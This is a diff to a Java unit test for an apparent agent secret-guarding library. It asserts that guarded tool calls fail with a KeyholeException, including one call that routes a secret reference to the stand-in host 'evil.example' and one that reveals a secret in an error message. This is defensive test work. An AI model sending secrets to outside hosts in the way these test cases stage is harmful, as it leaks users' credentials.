@@ -34,11 +34,12 @@ class AuditNoValueTest {
       TaskScope t = k.openTask(TaskOptions.builder().allPolicyGrants().agentId("agent-1").build());
       ToolGuard g = ToolGuard.builder(t).destination("tool", n -> java.util.Optional.of(n.path("url").asText())).build();
       g.call("tool", "{\"url\":\"https://api.example.com\",\"x\":\"secret://a\"}", inv -> "got " + inv.arguments());
-      catchThrowable(() -> g.call("tool", "{\"url\":\"https://api.example.com\",\"x\":\"secret://a\"}",
+      Throwable t0 = catchThrowable(() -> g.call("tool", "{\"url\":\"https://api.example.com\",\"x\":\"secret://a\"}",
           inv -> { throw new RuntimeException("failed with " + inv.secret("a").revealString()); }));
-      catchThrowable(() -> g.call("tool", "{\"url\":\"https://api.example.com\",\"x\":\"secret://a\"}", inv -> ""));
-      catchThrowable(() -> g.call("tool", "{\"url\":\"https://evil.example\",\"x\":\"secret://a\"}", inv -> ""));
-      catchThrowable(() -> g.call("tool", "{\"url\":\"https://api.example.com\",\"x\":\"secret://b\"}", inv -> ""));
+      Throwable t1 = catchThrowable(() -> g.call("tool", "{\"url\":\"https://api.example.com\",\"x\":\"secret://a\"}", inv -> ""));
+      Throwable t2 = catchThrowable(() -> g.call("tool", "{\"url\":\"https://evil.example\",\"x\":\"secret://a\"}", inv -> ""));
+      Throwable t3 = catchThrowable(() -> g.call("tool", "{\"url\":\"https://api.example.com\",\"x\":\"secret://b\"}", inv -> ""));
+      assertThat(java.util.List.of(t0, t1, t2, t3)).allSatisfy(x -> assertThat(x).isInstanceOf(KeyholeException.class));
       t.close();
     }
     List<AuditEvent> events = memory.events();
